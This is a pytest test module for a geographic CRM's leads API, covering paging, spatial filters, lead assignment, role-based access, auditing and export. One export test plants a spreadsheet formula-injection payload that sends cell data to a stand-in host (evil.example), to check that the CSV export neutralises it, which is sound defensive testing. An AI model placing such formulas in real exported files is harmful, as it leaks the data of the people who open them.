"""The leads API (issue 16): a marketer lassoes an area and walks its leads page by page,
best score first; filters by category, building class, status and score; assigns a lead to
a rep (it becomes the rep's prospect, a stop of their route; never twice); marks one do not
contact; exports the list with no live formula; a rep sees the leads of their territory and
those given to them; an analyst changes nothing; bad input is a 422 that says why."""

from __future__ import annotations

import csv
import io
import json
import threading

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from geocrm import zones
from geocrm.auth.audit import entries
from geocrm.auth.principal import Principal
from geocrm.cli import main
from geocrm.cube import build_cube
from geocrm.errors import Conflict
from geocrm.pipeline import after_customer_change, enrich_city
from geocrm.prospecting import lead_actions
from geocrm.prospecting.leads import build_leads

#: Every res-9 cell of the test territory holds leads; the rep of that territory sees them.
TERRITORY_RES = 9


def build_test_leads(engine) -> int:
    """The demo city's leads as `geocrm leads build` makes them, then given scores (ties and
    NULLs on purpose), reasons and contacts set-based from their OSM id, so that ordering and
    filters have something to sort on (the lookalike tests test the real scores); how many."""
    build_leads(engine, "helsinki", progress=False)
    with engine.begin() as conn:
        conn.execute(
            text(
                """
                UPDATE crm.leads SET
                    phone = CASE WHEN osm_id % 3 = 0 THEN '+358 9 ' || osm_id % 100000 END,
                    website = CASE WHEN osm_id % 4 = 0 THEN 'https://example.com/' || osm_id END,
                    score = CASE WHEN osm_id % 7 = 0 THEN NULL ELSE ((osm_id * 37) % 50) / 50.0 END,
                    reasons = CASE WHEN osm_id % 7 = 0 THEN '{}'::text[]
                              ELSE ARRAY['footfall in front', 'office building', 'near a store']
                              END
                """
            )
        )
        return conn.execute(text("SELECT count(*) FROM crm.leads")).scalar_one()


def remove_leads(engine) -> None:
    """Leave the database as the other test modules expect it: no leads, no customers
    made of leads, the cube caught up."""
    with engine.begin() as conn:
        conn.execute(text("DELETE FROM crm.lead_status"))
        conn.execute(text("DELETE FROM crm.leads"))
        conn.execute(text("DELETE FROM crm.customers WHERE source = 'lead'"))
    after_customer_change(engine, enrich_customers=False)


@pytest.fixture(scope="module")
def leads(engine, demo):
    """The demo city's POIs as leads, for the package; removed afterwards."""
    remove_leads(engine)
    count = build_test_leads(engine)
    yield count
    remove_leads(engine)


@pytest.fixture(scope="module")
def territory(engine, leads):
    """An active territory plan at res 9 whose one territory (every other res-9 cell that
    holds leads) is the first demo rep's, deleted afterwards; the plan active before (if
    any) is inactive meanwhile.
    Yields (rep_id, other_rep_id, cells)."""
    with engine.begin() as conn:
        reps = conn.execute(text("SELECT rep_id FROM crm.reps ORDER BY rep_id LIMIT 2")).scalars()
        rep_id, other_rep = list(reps)
        before = (
            conn.execute(text("SELECT plan_id FROM crm.territory_plans WHERE active"))
            .scalars()
            .all()
        )
        conn.execute(text("UPDATE crm.territory_plans SET active = false WHERE active"))
        plan_id = conn.execute(
            text(
                "INSERT INTO crm.territory_plans (name, res, measure, k) "
                "VALUES ('leads test', :res, 'customers', 2) RETURNING plan_id"
            ),
            {"res": TERRITORY_RES},
        ).scalar_one()
        territory_id = conn.execute(
            text(
                "INSERT INTO crm.territories (plan_id, name, rep_id) "
                "VALUES (:p, 'leads test', :r) RETURNING territory_id"
            ),
            {"p": plan_id, "r": rep_id},
        ).scalar_one()
        cells = (
            conn.execute(
                text(
                    """
                INSERT INTO crm.territory_cells (plan_id, h3, territory_id)
                SELECT :p, h3, :t FROM (
                    SELECT DISTINCT ref.h3_cell_to_parent(h3_11, :res) AS h3 FROM crm.leads
                ) c
                WHERE (h3 >> 18) & 1 = 0  -- the res-9 digit: about every other cell
                RETURNING h3
                """
                ),
                {"p": plan_id, "t": territory_id, "res": TERRITORY_RES},
            )
            .scalars()
            .all()
        )
        conn.execute(
            text(
                "UPDATE crm.territory_plans SET status = 'published', active = true, "
                "published_at = now() WHERE plan_id = :p"
            ),
            {"p": plan_id},
        )
    yield rep_id, other_rep, set(cells)
    with engine.begin() as conn:
        conn.execute(text("DELETE FROM crm.territory_plans WHERE plan_id = :p"), {"p": plan_id})
        if len(before) == 1:
            conn.execute(
                text("UPDATE crm.territory_plans SET active = true WHERE plan_id = :p"),
                {"p": before[0]},
            )


LASSO = {
    "type": "Polygon",
    "coordinates": [
        [[24.935, 60.160], [24.955, 60.160], [24.955, 60.172], [24.935, 60.172], [24.935, 60.160]]
    ],
}
BBOX = (24.94, 60.163, 24.952, 60.17)
IN_ORDER = "ORDER BY l.score DESC NULLS LAST, l.lead_id"


def sql_ids(engine, where: str = "true", **params) -> list[str]:
    """The ids of the leads matching ``where`` (SQL over crm.leads l and crm.lead_status s),
    in the API's order: what the API must answer, computed independently."""
    with engine.connect() as conn:
        return list(
            conn.execute(
                text(
                    "SELECT l.lead_id FROM crm.leads l "
                    "LEFT JOIN crm.lead_status s ON s.lead_id = l.lead_id "
                    f"WHERE {where} {IN_ORDER}"
                ),
                params,
            ).scalars()
        )


def walk(client: TestClient, first) -> tuple[list[str], set[int]]:
    """Every page from ``first`` (a response) on, following ``next`` links (GET) or posting
    the body again with the cursor (POST /api/leads/query); the ids, and numberMatched seen."""
    res, ids, matched = first, [], set()
    body_of_post = json.loads(res.request.content) if res.request.method == "POST" else None
    while True:
        assert res.status_code == 200, res.text
        page = res.json()
        assert page["numberReturned"] == len(page["features"])
        ids += [f["id"] for f in page["features"]]
        matched.add(page["numberMatched"])
        nxt = [link["href"] for link in page["links"] if link["rel"] == "next"]
        assert bool(nxt) == (page["next"] is not None)
        if page["next"] is None:
            return ids, matched
        if body_of_post is None:
            res = client.get(nxt[0])
        else:
            res = client.post(nxt[0], json={**body_of_post, "cursor": page["next"]})


@pytest.fixture(scope="module")
def as_role(client_as, territory):
    """Clients of the test's users: the territory's rep, the other rep, their manager..."""
    rep_id, other_rep, _ = territory
    return {
        "rep": client_as("rep", (rep_id,)),
        "other_rep": client_as("rep", (other_rep,)),
        "manager": client_as("manager", (rep_id,)),
        "marketer": client_as("marketer"),
        "analyst": client_as("analyst"),
    }


def test_paging_walks_every_lead_exactly_once_best_score_first(client, engine, leads):
    expected = sql_ids(engine)
    assert len(expected) == leads > 1000  # more than one page of the largest size
    ids, matched = walk(client, client.get("/api/leads", params={"limit": 97}))
    assert ids == expected  # every lead once, by score (unscored last), then lead id
    assert matched == {leads}
    first = client.get("/api/leads").json()
    assert first["numberReturned"] == 100  # the default page
    feature = first["features"][0]
    props = feature["properties"]
    assert feature["geometry"]["type"] == "Point" and feature["id"] == props["lead_id"]
    assert 0 <= props["score"] <= 1 and len(props["reasons"]) == 3
    assert props["status"] == "new" and props["customer_id"] is None
    assert int(props["h3"], 16) > 0 and len(props["h3"]) == 15
    big = client.get("/api/leads", params={"limit": 1000}).json()
    assert big["numberReturned"] == 1000 and big["numberMatched"] == leads


def test_filters_category_building_class_and_score(client, engine, leads):
    res = client.get(
        "/api/leads",
        params={"category": "shop,tourism", "building_class": "retail", "limit": 1000},
    )
    expected = sql_ids(engine, "l.category IN ('shop', 'tourism') AND l.building_class = 'retail'")
    assert 0 < len(expected) < leads
    assert [f["id"] for f in res.json()["features"]] == expected
    res = client.get("/api/leads", params={"min_score": 0.8, "limit": 1000}).json()
    assert [f["id"] for f in res["features"]] == sql_ids(engine, "l.score >= CAST(0.8 AS real)")
    assert all(f["properties"]["score"] >= 0.8 for f in res["features"])


def test_a_bbox_and_a_lasso_give_the_leads_inside_paged_never_capped(client, engine, leads):
    res = client.get("/api/leads", params={"bbox": ",".join(map(str, BBOX)), "limit": 50})
    ids, matched = walk(client, res)
    expected = sql_ids(engine, "l.geom && ST_MakeEnvelope(24.94, 60.163, 24.952, 60.17, 4326)")
    assert ids == expected and matched == {len(expected)} and len(expected) > 50
    in_body = client.post("/api/leads/query", json={"bbox": list(BBOX), "limit": 1000}).json()
    assert [f["id"] for f in in_body["features"]] == expected
    lasso = client.post("/api/leads/query", json={"polygon": LASSO, "limit": 60})
    ids, matched = walk(client, lasso)
    inside = sql_ids(engine, "ST_Intersects(ST_GeomFromGeoJSON(:g), l.geom)", g=json.dumps(LASSO))
    assert ids == inside and matched == {len(inside)} and len(inside) > 60
    # a lasso with filters
    res = client.post(
        "/api/leads/query", json={"polygon": LASSO, "category": ["amenity"], "limit": 1000}
    ).json()
    assert [f["id"] for f in res["features"]] == [
        i for i in inside if i in set(sql_ids(engine, "l.category = 'amenity'"))
    ]
    # the lasso as JSON text in a link: the list and the export of a drawn polygon
    as_text = {"polygon": json.dumps(LASSO), "limit": 1000}
    assert [f["id"] for f in client.get("/api/leads", params=as_text).json()["features"]] == inside
    exported = client.get("/api/leads/export", params={**as_text, "format": "csv"})
    assert [r["lead_id"] for r in csv.DictReader(io.StringIO(exported.text))] == inside


def test_a_saved_zone_gives_the_same_leads_as_its_lasso(client, engine, leads):
    zone = zones.create_zone(engine, name="leads test zone", kind="polygon", geometry=LASSO)
    try:
        by_zone = client.get("/api/leads", params={"zone": zone["id"], "limit": 1000}).json()
        by_name = client.get("/api/leads", params={"zone": "leads test zone", "limit": 1000}).json()
        lasso = client.post("/api/leads/query", json={"polygon": LASSO, "limit": 1000}).json()
        assert by_zone["features"] == lasso["features"] == by_name["features"]
        assert by_zone["numberMatched"] == lasso["numberMatched"] > 0
        assert client.get("/api/leads", params={"zone": 2**31 - 1}).status_code == 404
    finally:
        zones.delete_zone(engine, zone["id"])


def _a_lead(engine, where: str = "true") -> str:
    with engine.connect() as conn:
        return conn.execute(
            text(
                "SELECT l.lead_id FROM crm.leads l LEFT JOIN crm.lead_status s USING (lead_id) "
                f"WHERE s.lead_id IS NULL AND {where} ORDER BY l.lead_id LIMIT 1"
            )
        ).scalar_one()


def test_an_assigned_lead_is_the_reps_prospect_a_route_stop_and_never_assigned_twice(
    client, engine, territory, as_role
):
    rep_id, other_rep, _cells = territory
    lead_id = _a_lead(engine, "l.name IS NOT NULL")
    res = client.post(f"/api/leads/{lead_id}/assign", json={"rep_id": other_rep})
    assert res.status_code == 200, res.text
    assigned = res.json()
    assert assigned["lead_id"] == lead_id and assigned["status"] == "assigned"
    assert assigned["rep_id"] == other_rep
    with engine.connect() as conn:
        customer = (
            conn.execute(
                text(
                    "SELECT c.*, r.region AS rep_region FROM crm.customers c "
                    "JOIN crm.reps r ON r.rep_id = c.assigned_rep_id WHERE c.customer_id = :c"
                ),
                {"c": assigned["customer_id"]},
            )
            .mappings()
            .one()
        )
        lead = (
            conn.execute(
                text("SELECT name, address, geom FROM crm.leads WHERE lead_id = :l"), {"l": lead_id}
            )
            .mappings()
            .one()
        )
    assert customer["source"] == "lead" and customer["stage"] == "prospect"
    assert customer["kind"] == "business" and customer["external_id"] == f"lead:{lead_id}"
    assert customer["name"] == lead["name"] and customer["address"] == lead["address"]
    assert customer["geom"] == lead["geom"] and customer["geocode_match_level"] == "provided"
    assert customer["region"] == customer["rep_region"]
    # the second time: 409, nothing more made
    again = client.post(f"/api/leads/{lead_id}/assign", json={"rep_id": rep_id})
    assert again.status_code == 409 and "assigned already" in again.json()["detail"]
    with engine.connect() as conn:
        made = conn.execute(
            text("SELECT count(*) FROM crm.customers WHERE external_id = :e"),
            {"e": f"lead:{lead_id}"},
        ).scalar()
    assert made == 1
    # the rep it went to sees the customer and the lead; the other rep sees neither
    mine = as_role["other_rep"]
    assert mine.get(f"/api/customers/{assigned['customer_id']}").status_code == 200
    seen = mine.get("/api/leads", params={"status": "assigned"}).json()["features"]
    assert lead_id in [f["id"] for f in seen]
    assert (
        seen[[f["id"] for f in seen].index(lead_id)]["properties"]["customer_id"]
        == (assigned["customer_id"])
    )
    other = as_role["rep"]
    assert other.get(f"/api/customers/{assigned['customer_id']}").status_code == 404
    # ... and it is a hand-picked stop of the rep's visit route
    route = mine.post(
        "/api/routes",
        json={"rep_id": other_rep, "customer_ids": [assigned["customer_id"]], "mode": "walk"},
    )
    assert route.status_code == 200, route.text
    stops = [f["properties"] for f in route.json()["features"]]
    assert assigned["customer_id"] in [s.get("customer_id") for s in stops]


def test_two_people_assigning_one_lead_at_once_make_one_customer(engine, app_engine, territory):
    rep_id, other_rep, _ = territory
    lead_id = _a_lead(engine)
    admin = Principal(user_id=None, email="race@test.example", role="admin", via="cli")
    results: list[object] = []
    start = threading.Barrier(2)

    def assign(rep: int) -> None:
        start.wait()
        try:
            results.append(lead_actions.assign_lead(engine, lead_id, rep, actor=admin))
        except Conflict as exc:
            results.append(exc)

    threads = [threading.Thread(target=assign, args=(r,)) for r in (rep_id, other_rep)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(type(r).__name__ for r in results) == ["Conflict", "dict"]
    with engine.connect() as conn:
        made = conn.execute(
            text("SELECT count(*) FROM crm.customers WHERE external_id = :e"),
            {"e": f"lead:{lead_id}"},
        ).scalar()
    assert made == 1


def test_status_changes_and_do_not_contact_cannot_be_assigned(client, engine, territory):
    rep_id, _, _ = territory
    lead_id = _a_lead(engine)
    res = client.patch(f"/api/leads/{lead_id}", json={"status": "contacted"})
    assert res.status_code == 200, res.text
    assert res.json()["id"] == lead_id and res.json()["properties"]["status"] == "contacted"
    contacted = client.get("/api/leads", params={"status": "contacted"}).json()["features"]
    assert lead_id in [f["id"] for f in contacted]
    assert lead_id not in sql_ids(engine, "coalesce(s.status, 'new') = 'new'")
    assert client.patch(f"/api/leads/{lead_id}", json={"status": "do_not_contact"}).is_success
    refused = client.post(f"/api/leads/{lead_id}/assign", json={"rep_id": rep_id})
    assert refused.status_code == 409 and "do not contact" in refused.json()["detail"]
    # back to new: then it may be assigned, and once assigned its status stays
    assert client.patch(f"/api/leads/{lead_id}", json={"status": "new"}).is_success
    assert client.post(f"/api/leads/{lead_id}/assign", json={"rep_id": rep_id}).is_success
    stuck = client.patch(f"/api/leads/{lead_id}", json={"status": "disqualified"})
    assert stuck.status_code == 409
    by_hand = client.patch(f"/api/leads/{lead_id}", json={"status": "assigned"})
    assert by_hand.status_code == 422


def test_a_rep_sees_the_leads_of_their_territory_and_those_given_to_them(
    client, engine, territory, as_role
):
    rep_id, other_rep, cells = territory
    ids, _ = walk(as_role["rep"], as_role["rep"].get("/api/leads", params={"limit": 1000}))
    expected = sql_ids(
        engine,
        "(ref.h3_cell_to_parent(l.h3_11, 9) = ANY (CAST(:cells AS bigint[])) "
        "OR s.assigned_rep_id = :rep)",
        cells=sorted(cells),
        rep=rep_id,
    )
    assert ids == expected and 0 < len(ids) < len(sql_ids(engine))
    # the other rep has no territory: only the leads assigned to them
    theirs, _ = walk(as_role["other_rep"], as_role["other_rep"].get("/api/leads"))
    assert theirs == sql_ids(engine, "s.assigned_rep_id = :rep", rep=other_rep)
    # a lead outside the rep's sight is not found for them, not even to change
    outside = next(i for i in sql_ids(engine) if i not in set(ids))
    res = as_role["rep"].patch(f"/api/leads/{outside}", json={"status": "contacted"})
    assert res.status_code == 404
    # the manager of the rep sees what the rep sees; marketers and analysts see every lead
    managed, _ = walk(
        as_role["manager"], as_role["manager"].get("/api/leads", params={"limit": 1000})
    )
    assert managed == ids
    everything = len(sql_ids(engine))
    for role in ("marketer", "analyst"):
        assert as_role[role].get("/api/leads").json()["numberMatched"] == everything


def test_who_may_assign_and_change(engine, territory, as_role):
    rep_id, other_rep, cells = territory
    inside = sql_ids(
        engine,
        "ref.h3_cell_to_parent(l.h3_11, 9) = ANY (CAST(:cells AS bigint[])) AND s.lead_id IS NULL",
        cells=sorted(cells),
    )
    lead_id = inside[0]
    analyst, rep, manager = as_role["analyst"], as_role["rep"], as_role["manager"]
    assert analyst.patch(f"/api/leads/{lead_id}", json={"status": "contacted"}).status_code == 403
    assert analyst.post(f"/api/leads/{lead_id}/assign", json={"rep_id": rep_id}).status_code == 403
    assert rep.post(f"/api/leads/{lead_id}/assign", json={"rep_id": rep_id}).status_code == 403
    assert rep.patch(f"/api/leads/{lead_id}", json={"status": "contacted"}).status_code == 200
    # a manager assigns to their own reps only
    res = manager.post(f"/api/leads/{lead_id}/assign", json={"rep_id": other_rep})
    assert res.status_code == 403
    res = manager.post(f"/api/leads/{lead_id}/assign", json={"rep_id": rep_id})
    assert res.status_code == 200, res.text
    assert (
        as_role["marketer"]
        .post(f"/api/leads/{inside[1]}/assign", json={"rep_id": other_rep})
        .is_success
    )


def test_changes_and_exports_are_audited(client, engine, make_user, territory):
    rep_id, _, _ = territory
    admin = make_user("admin")[0]
    lead_id = _a_lead(engine)
    client.patch(f"/api/leads/{lead_id}", json={"status": "contacted"})
    entry = entries(engine, action="leads.status", limit=1)[0]
    assert (entry["actor"], entry["target"], entry["detail"]) == (
        admin,
        lead_id,
        {"status": "contacted"},
    )
    done = client.post(f"/api/leads/{lead_id}/assign", json={"rep_id": rep_id}).json()
    entry = entries(engine, action="leads.assign", limit=1)[0]
    assert entry["target"] == lead_id
    assert entry["detail"] == {"rep_id": rep_id, "customer_id": done["customer_id"]}
    client.get("/api/leads/export", params={"format": "geojson", "min_score": 0.5})
    entry = entries(engine, action="leads.export", limit=1)[0]
    assert entry["detail"]["format"] == "geojson"
    assert entry["detail"]["filters"] == {"min_score": 0.5}
    assert entry["detail"]["leads"] == len(sql_ids(engine, "l.score >= CAST(0.5 AS real)"))


def test_the_export_is_every_matching_lead_with_no_live_formula(client, engine, leads):
    lead_id = _a_lead(engine)
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE crm.leads SET name = :n WHERE lead_id = :l"),
            {"n": '=HYPERLINK("http://evil.example/?d="&A1,"x")', "l": lead_id},
        )
    res = client.get("/api/leads/export", params={"format": "csv"})
    assert res.status_code == 200 and res.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(res.text)))
    assert [r["lead_id"] for r in rows] == sql_ids(engine)  # every lead, all pages, in order
    named = next(r for r in rows if r["lead_id"] == lead_id)
    assert named["name"].startswith("'=HYPERLINK")
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
    scored = next(r for r in rows if r["score"])
    assert len(scored["reasons"].split("; ")) == 3
    geojson = client.get(
        "/api/leads/export", params={"format": "geojson", "category": "amenity"}
    ).json()
    assert [f["id"] for f in geojson["features"]] == sql_ids(engine, "l.category = 'amenity'")


@pytest.mark.parametrize(
    ("method", "url", "payload", "words"),
    [
        ("GET", "/api/leads", {"bbox": "a,b,c,d"}, "bbox"),
        ("GET", "/api/leads", {"bbox": "24.9,60.2,24.8,60.1"}, "min_lon"),
        ("GET", "/api/leads", {"cursor": "not-a-cursor"}, "cursor"),
        ("GET", "/api/leads", {"status": "maybe"}, "unknown status"),
        ("GET", "/api/leads", {"building_class": "castle"}, "building_class"),
        ("GET", "/api/leads", {"min_score": 2}, "min_score"),
        ("GET", "/api/leads", {"min_score": "high"}, "min_score"),
        ("GET", "/api/leads", {"limit": 0}, "limit"),
        ("GET", "/api/leads", {"limit": 1001}, "limit"),
        ("GET", "/api/leads/export", {"format": "xlsx"}, "format"),
        ("GET", "/api/leads/export", {"polygon": "[[24.9, 60.1]"}, "JSON text"),
        ("GET", "/api/leads", {"polygon": "[24.9, 60.1]"}, "Polygon object"),
        (
            "POST",
            "/api/leads/query",
            {
                "polygon": {
                    "type": "Polygon",
                    "coordinates": [[[24.9, 60.1], [25.0, 60.1], [25.0, 60.2]]],
                }
            },
            "ring",
        ),
        (
            "POST",
            "/api/leads/query",
            {"polygon": {"type": "Point", "coordinates": [24.9, 60.1]}},
            "Polygon",
        ),
        ("POST", "/api/leads/query", {"polygon": LASSO, "min_score": -1}, "min_score"),
        ("POST", "/api/leads/query", {"bbox": [24.9, 60.1, 25.0]}, "bbox"),
        ("POST", "/api/leads/query", {"polygon": LASSO, "cursor": "W251bGwsIDVd"}, "cursor"),
        ("PATCH", "/api/leads/n1", {"status": "gone"}, "status"),
        ("PATCH", "/api/leads/x1", {"status": "new"}, "lead_id"),
        ("POST", "/api/leads/n1/assign", {"rep_id": "one"}, "rep_id"),
        ("POST", "/api/leads/n1/assign", {}, "rep_id"),
    ],
)
def test_bad_input_is_a_422_that_says_why(client, leads, method, url, payload, words):
    if method == "GET":
        res = client.get(url, params=payload)
    else:
        res = client.request(method, url, json=payload)
    assert res.status_code == 422, res.text
    assert words in res.text


def test_assigning_to_an_unknown_rep_or_an_unknown_lead(client, engine, leads):
    lead_id = _a_lead(engine)
    res = client.post(f"/api/leads/{lead_id}/assign", json={"rep_id": 2**31 - 1})
    assert res.status_code == 422 and "rep" in res.json()["detail"]
    res = client.post("/api/leads/n999999999999/assign", json={"rep_id": 1})
    assert res.status_code == 404


def test_the_command_lists_leads_in_a_zone_above_a_score(
    engine, leads, use_database, capsys, tmp_path
):
    assert main(["leads", "list", "--min-score", "0.9", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    expected = sql_ids(engine, "l.score >= CAST(0.9 AS real)")
    assert [r["lead_id"] for r in listed["leads"]] == expected
    assert listed["numberMatched"] == len(expected) > 0
    zone = zones.create_zone(engine, name="leads cli zone", kind="polygon", geometry=LASSO)
    try:
        out = tmp_path / "leads.csv"
        code = main(["leads", "list", "--zone", "leads cli zone", "--out", str(out), "--json"])
        assert code == 0
        with out.open(newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        inside = sql_ids(
            engine, "ST_Intersects(ST_GeomFromGeoJSON(:g), l.geom)", g=json.dumps(LASSO)
        )
        assert [r["lead_id"] for r in rows] == inside
        assert json.loads(capsys.readouterr().out)["leads"] == len(inside)
        assert main(["leads", "list", "--min-score", "0.95"]) == 0
        table = capsys.readouterr().out
        assert f"{len(sql_ids(engine, 'l.score >= CAST(0.95 AS real)'))} lead(s)" in table
        assert main(["leads", "list", "--min-score", "7"]) == 2
    finally:
        zones.delete_zone(engine, zone["id"])


def test_an_assigned_lead_is_enriched_and_counted_in_the_hex_cube(client, engine, territory):
    enrich_city(engine, progress=False)  # skipped when done
    build_cube(engine)
    _, other_rep, _ = territory
    lead_id = _a_lead(engine)
    facts = text(
        "SELECT coalesce(sum(f.prospects), 0) FROM cube.facts f JOIN crm.leads l "
        "ON l.h3_11 = f.h3_11 WHERE l.lead_id = :l AND f.rep_id = :r"
    )
    with engine.connect() as conn:
        before = conn.execute(facts, {"l": lead_id, "r": other_rep}).scalar()
    done = client.post(f"/api/leads/{lead_id}/assign", json={"rep_id": other_rep})
    assert done.status_code == 200, done.text
    with engine.connect() as conn:
        after = conn.execute(facts, {"l": lead_id, "r": other_rep}).scalar()
        enriched = conn.execute(
            text(
                "SELECT e.h3_11 = l.h3_11 FROM crm.customer_enrichment e, crm.leads l "
                "WHERE e.customer_id = :c AND l.lead_id = :l"
            ),
            {"c": done.json()["customer_id"], "l": lead_id},
        ).scalar()
    assert enriched is True
    assert after == before + 1
